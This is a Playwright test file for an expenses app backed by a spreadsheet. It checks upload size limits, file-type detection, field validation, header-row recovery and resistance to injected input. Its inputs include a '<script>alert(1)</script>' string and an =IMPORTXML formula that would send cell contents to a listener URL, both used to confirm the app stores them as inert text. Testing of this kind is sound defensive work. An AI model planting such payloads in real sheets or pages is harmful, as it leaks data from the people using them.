import { randomBytes } from 'node:crypto';
import { expect, type Page } from '@playwright/test';
import * as z from 'zod';
import { createReport, readReport, refusalOf, send } from './calls.ts';
import { callWorkspace, chooseFor, openSheet, readEntered } from './hand.ts';
import { test } from './journey.ts';
import { listen } from './listener.ts';
import { overflowOf } from './narrow.ts';
import { cell, goToCell, startExpenses } from './people.ts';
import { receiptPhoto } from './receipt.ts';

/** An open report of one expense. */
async function startReport(page: Page): Promise<string> {
  await startExpenses(page);
  const report = await createReport(page, 'Under attack', [{ description: 'Untouched', amount: 10 }]);
  await page.goto(`/?app=expenses&report=${report}`);
  await expect(page.getByText('Untouched').first()).toBeVisible();
  return report;
}

async function openAddDialog(page: Page) {
  await page.getByRole('button', { name: 'Add Expense' }).first().click();
  const dialog = page.getByRole('dialog', { name: 'Add Expense' });
  return {
    dialog,
    description: dialog.getByLabel('Description'),
    amount: dialog.getByLabel('Amount, USD'),
    add: dialog.getByRole('button', { name: 'Add', exact: true }),
  };
}

const untouched = [{ _rowIndex: 2, Description: 'Untouched', Amount: 10 }];

test('a photo of 12 MB is refused by the server, and by a page that cannot open it, and the form keeps its text @phone-only', async ({
  page,
}) => {
  const report = await startReport(page);
  const { dialog, description, amount, add } = await openAddDialog(page);
  await description.fill('Huge receipt');
  await amount.fill('5');
  const unreadable = { name: 'huge.jpg', mimeType: 'image/jpeg', buffer: randomBytes(12 * 1024 * 1024) };
  await dialog.getByLabel('Choose a file').last().setInputFiles(unreadable);
  await expect(dialog.getByText('This photo is 12.0 MB; the limit is 10 MB')).toBeVisible();
  await expect(dialog.getByRole('img', { name: /^Preview/ })).toHaveCount(0);
  await expect(description).toHaveValue('Huge receipt');

  const small = await receiptPhoto();
  // Still a JPEG: readers of pictures ignore what follows its end.
  const buffer = Buffer.concat([small, randomBytes(12 * 1024 * 1024 - small.byteLength)]);
  const huge = { name: 'huge.jpg', mimeType: 'image/jpeg', buffer };
  const direct = await page.request.post(`/api/app/expenses/${report}/photo/upload`, {
    headers: { origin: new URL(page.url()).origin },
    multipart: { photo: huge },
  });
  expect(await refusalOf(direct)).toMatchObject({ status: 413, error: expect.stringContaining('10 MB') });

  await add.click();
  await expect(dialog).toBeHidden();
  const { rows } = await readReport(page, report);
  expect(rows).toMatchObject([...untouched, { Description: 'Huge receipt', Photo: '' }]);
});

test('a text file named .jpg is told apart, after which the row stands without a photo', async ({
  page,
  mayFail,
}) => {
  // It is neither read for the form nor shown nor stored.
  mayFail(/^400 \/api\/app\/(?:expenses\/[^/]+\/(extract|rows\/3\/photo)|shared\/photos\/preview)$/);
  const report = await startReport(page);
  const { dialog, description, amount, add } = await openAddDialog(page);
  await description.fill('Not a picture');
  await amount.fill('5');
  const buffer = Buffer.from('<script>alert(1)</script> this is no picture');
  await dialog
    .getByLabel('Choose a file')
    .last()
    .setInputFiles({ name: 'receipt.jpg', mimeType: 'image/jpeg', buffer });
  await expect(dialog.getByText('receipt.jpg: this browser shows no preview of such a file')).toBeVisible();
  await add.click();

  const photo = page.getByRole('dialog', { name: 'Add Receipt Photo' });
  await expect(photo.getByRole('alert')).toContainText('Failed to upload photo');
  await expect(photo.getByRole('alert')).toContainText(/JPEG, PNG, WebP/);
  await expect(photo.getByText('Not a picture, $5.00')).toBeVisible();
  await photo.getByRole('button', { name: 'Remove' }).click();
  const right = { name: 'receipt.jpg', mimeType: 'image/jpeg', buffer: await receiptPhoto() };
  await photo.getByLabel('Choose a file').last().setInputFiles(right);
  await photo.getByRole('button', { name: 'Upload Photo' }).click();
  await expect(photo).toBeHidden();
  const { rows } = await readReport(page, report);
  expect(rows).toMatchObject([...untouched, { Description: 'Not a picture', Photo: 'receipt.jpg' }]);
});

test('an amount of 12abc and a description of 60,000 characters are named at their fields @phone-only', async ({
  page,
}) => {
  const report = await startReport(page);
  const { dialog, description, amount, add } = await openAddDialog(page);
  const long = 'x'.repeat(60_000);
  await description.fill(long);
  await amount.fill('12abc');
  await add.click();
  await expect(dialog.getByText('Please enter a valid amount')).toBeVisible();
  await expect(dialog.getByText('Please keep this within 50,000 characters')).toBeVisible();
  await expect(amount).toHaveAttribute('aria-invalid', 'true');
  await expect(description).toHaveValue(long);
  await expect(amount).toHaveValue('12abc');

  const body = { date: '2026-11-02', description: 'Direct', amount: '12abc', category: '' };
  const direct = await send(page, `/api/app/expenses/${report}/add`, { method: 'POST', body });
  expect(await refusalOf(direct)).toMatchObject({ status: 400, code: 'INVALID_INPUT' });
  const tooLong = await send(page, `/api/app/expenses/${report}/add`, {
    method: 'POST',
    body: { ...body, amount: 1, description: long },
  });
  expect(await refusalOf(tooLong)).toMatchObject({ status: 400, code: 'INVALID_INPUT' });
  expect((await readReport(page, report)).rows).toMatchObject(untouched);

  await description.fill('y'.repeat(5000));
  await amount.fill('12');
  await add.click();
  await expect(dialog).toBeHidden();
  await expect.poll(() => overflowOf(page)).toBe(0);
  expect((await readReport(page, report)).rows[1]?.Description).toHaveLength(5000);
});

const cellsSchema = z.object({
  sheets: z.tuple([
    z.object({
      data: z.tuple([
        z.object({
          rowData: z.array(
            z.object({ values: z.array(z.object({ userEnteredValue: z.unknown().optional() })) }),
          ),
        }),
      ]),
    }),
  ]),
});

test('a description that is a formula stays text, in the sheet and on its page, and fetches nothing', async ({
  page,
}) => {
  const trap = await listen((_, response) => response.end('<a>caught</a>'));
  const report = await startReport(page);
  const formula = `=IMPORTXML("${trap.url}/?"&A1,"//a")`;
  const { dialog, description, amount, add } = await openAddDialog(page);
  await description.fill(formula);
  await amount.fill('5');
  await add.click();
  await expect(dialog).toBeHidden();
  await expect(page.getByRole('gridcell', { name: formula, exact: true })).toBeVisible();

  const sheet = await openSheet(page, report);
  await expect(cell(sheet, 'B3')).toHaveText(formula);
  await goToCell(sheet, 'B3');
  await expect(sheet.getByRole('textbox', { name: 'Content of B3' })).toHaveValue(formula);
  const { sheetId } = await readReport(page, report);
  const fields = 'sheets.data.rowData.values.userEnteredValue';
  const path = `/v4/spreadsheets/${sheetId}?ranges=Expenses!B3&fields=${fields}`;
  const entered = cellsSchema.parse(await (await callWorkspace(page, path)).json());
  expect(entered.sheets[0].data[0].rowData[0]?.values[0]?.userEnteredValue).toEqual({ stringValue: formula });

  // Editing another cell of the row does not activate it either.
  await page.bringToFront();
  await page.getByRole('button', { name: /^Actions for =IMPORTXML/ }).click();
  await page.getByRole('menuitem', { name: 'Edit' }).click();
  const edit = page.getByRole('dialog', { name: 'Edit Expense' });
  await edit.getByLabel('Notes').fill('=1+1');
  await edit.getByRole('button', { name: 'Save' }).click();
  await expect(edit).toBeHidden();
  await expect(cell(sheet, 'G3')).toHaveText('=1+1');
  expect(trap.requests).toEqual([]);
  await trap.close();
});

test('a header row deleted by hand stops reading and writing until it is restored @phone-only', async ({
  page,
  mayFail,
}) => {
  mayFail(/^409 \/api\/app\/expenses\//);
  const report = await startReport(page);
  const { dialog, description, amount, add } = await openAddDialog(page);
  await description.fill('Typed before');
  await amount.fill('5');
  const sheet = await openSheet(page, report);
  await chooseFor(sheet, 'A1', 'Rows', 'Delete row');
  await expect(cell(sheet, 'B1')).toHaveText('Untouched');

  await page.bringToFront();
  await add.click();
  await expect(dialog.getByRole('alert')).toContainText('Failed to add expense');
  await expect(dialog.getByRole('alert')).toContainText('What you typed is still here');
  await expect(description).toHaveValue('Typed before');
  await dialog.getByRole('button', { name: 'Cancel' }).click();
  await page.reload();
  await expect(page.getByText(/^The columns "Date".* are missing in the sheet$/)).toBeVisible();
  await expect(page.getByRole('button', { name: 'Add Expense' })).toHaveCount(0);
  expect(await readEntered(page, report, 'A1:D2')).toEqual([[46328, 'Untouched', '', 10]]);

  await page.getByRole('button', { name: 'Restore the header row' }).click();
  await expect(page.getByText('Untouched').first()).toBeVisible();
  expect(await readEntered(page, report, 'A1:D2')).toEqual([
    ['Date', 'Description', 'Category', 'Amount'],
    [46328, 'Untouched', '', 10],
  ]);
});
